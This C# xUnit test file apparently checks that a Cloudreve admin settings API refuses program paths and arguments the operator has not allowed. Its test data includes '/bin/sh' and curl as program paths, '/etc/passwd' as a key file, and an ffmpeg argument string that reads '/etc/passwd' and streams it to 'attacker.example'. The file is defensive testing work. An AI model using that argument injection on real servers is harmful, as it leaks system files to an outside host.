using Cloudreve.Core.Content.Thumbnails;
using Cloudreve.Core.Site.Settings;
using Cloudreve.Functions.Tests.App;
using Cloudreve.Testing.Azurite;
using Xunit;

namespace Cloudreve.Functions.Tests.Admin;

/// <summary>Tests that administrators of a site start no program and open no file that the operator does not allow.</summary>
public sealed class OperatorRuleApiTests(AzuriteServer azurite)
{
    [Theory]
    [InlineData("thumb_vips_path", "/bin/sh")]
    [InlineData("thumb_ffmpeg_path", "/usr/bin/curl")]
    [InlineData("thumb_libreoffice_path", "soffice2")]
    [InlineData("thumb_ffmpeg_extra_args", "-i /etc/passwd -f mpegts http://attacker.example/")]
    [InlineData("encrypt_master_key_file", "/etc/passwd")]
    [InlineData("thumb_vips_enabled", "1")]
    public async Task Given_a_value_that_the_operator_does_not_allow_when_set_then_it_is_refused_by_name(string key, string value)
    {
        await using var app = await AppFixture.StartAsync(azurite, settings: new Dictionary<string, string?> { ["CLOUDREVE_PROGRAMS"] = "ffmpeg" });
        var (setting, other) = (SettingChange.Find(key)!, SettingChange.Find("siteDes")!);

        var answer = await SetAsync(app, (key, value), ("siteDes", "changed"));

        Assert.Equal(40001, answer.Code);
        Assert.Contains(key, answer.Msg, StringComparison.Ordinal);
        var site = await app.GetSiteAsync();
        Assert.Equal((setting.DefaultText, other.DefaultText), (site.TextOf(setting), site.TextOf(other)));
    }

    [Fact]
    public async Task Given_what_the_operator_allows_when_it_is_set_then_it_holds()
    {
        await using var app = await AppFixture.StartAsync(azurite, settings: new Dictionary<string, string?>
        {
            ["CLOUDREVE_PROGRAMS"] = "/opt/ffmpeg",
            ["CLOUDREVE_PROGRAM_ARGUMENTS"] = "-hwaccel,auto",
        });

        var answer = await SetAsync(app, ("thumb_ffmpeg_path", "/opt/ffmpeg"), ("thumb_ffmpeg_enabled", "1"), ("thumb_ffmpeg_extra_args", "-hwaccel auto"));

        Assert.Equal(0, answer.Code);
        Assert.Equal("/opt/ffmpeg", (await app.GetSiteAsync()).Get(ThumbnailSetting.FfmpegPath));
        Assert.Contains("mkv", (await app.CreateClient().GetApiAsync("site/config/thumb")).Data.GetProperty("thumb_exts").EnumerateArray().Select(e => e.GetString()));
    }

    [Fact]
    public async Task Given_a_form_that_sends_back_what_it_was_shown_when_it_is_saved_then_it_is_taken()
    {
        await using var app = await AppFixture.StartAsync(azurite);

        Assert.Equal(0, (await SetAsync(app, ("thumb_vips_path", "vips"), ("thumb_vips_enabled", "0"), ("encrypt_master_key_file", ""))).Code);
    }

    private static async Task<ApiAnswer> SetAsync(AppFixture app, params (string Key, string Value)[] settings) =>
        await (await app.SignInAsync()).SendApiAsync(HttpMethod.Patch, "admin/settings", new { settings = settings.ToDictionary(s => s.Key, s => s.Value) });
}
